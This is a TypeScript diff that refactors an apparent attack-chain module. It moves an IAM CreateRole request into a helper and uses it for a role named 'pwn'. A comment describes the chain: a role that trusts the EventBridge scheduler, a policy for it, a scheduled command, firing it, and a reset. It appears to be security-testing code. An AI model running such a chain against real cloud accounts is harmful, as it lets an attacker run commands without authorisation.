@@ -14,6 +14,25 @@ export interface AttackStep {
   body: string;
 }
 
+/** IAM CreateRole as a form post: a role the scheduler may assume. */
+export function createRoleForm(roleName: string): string {
+  return new URLSearchParams({
+    Action: 'CreateRole',
+    Version: '2010-05-08',
+    RoleName: roleName,
+    AssumeRolePolicyDocument: JSON.stringify({
+      Version: '2012-10-17',
+      Statement: [
+        {
+          Effect: 'Allow',
+          Principal: { Service: 'scheduler.amazonaws.com' },
+          Action: 'sts:AssumeRole',
+        },
+      ],
+    }),
+  }).toString();
+}
+
 /** The chain: a role trusting the scheduler, its policy, a schedule running a command, fire, reset. */
 export function attackChain(options: {
   accountId: string;
@@ -25,26 +44,7 @@ export function attackChain(options: {
   const form = 'application/x-www-form-urlencoded' as const;
   const text = 'text/plain' as const;
   return [
-    {
-      label: 'CreateRole',
-      path: '/',
-      contentType: form,
-      body: new URLSearchParams({
-        Action: 'CreateRole',
-        Version: '2010-05-08',
-        RoleName: 'pwn',
-        AssumeRolePolicyDocument: JSON.stringify({
-          Version: '2012-10-17',
-          Statement: [
-            {
-              Effect: 'Allow',
-              Principal: { Service: 'scheduler.amazonaws.com' },
-              Action: 'sts:AssumeRole',
-            },
-          ],
-        }),
-      }).toString(),
-    },
+    { label: 'CreateRole', path: '/', contentType: form, body: createRoleForm('pwn') },
     {
       label: 'PutRolePolicy',
       path: '/',
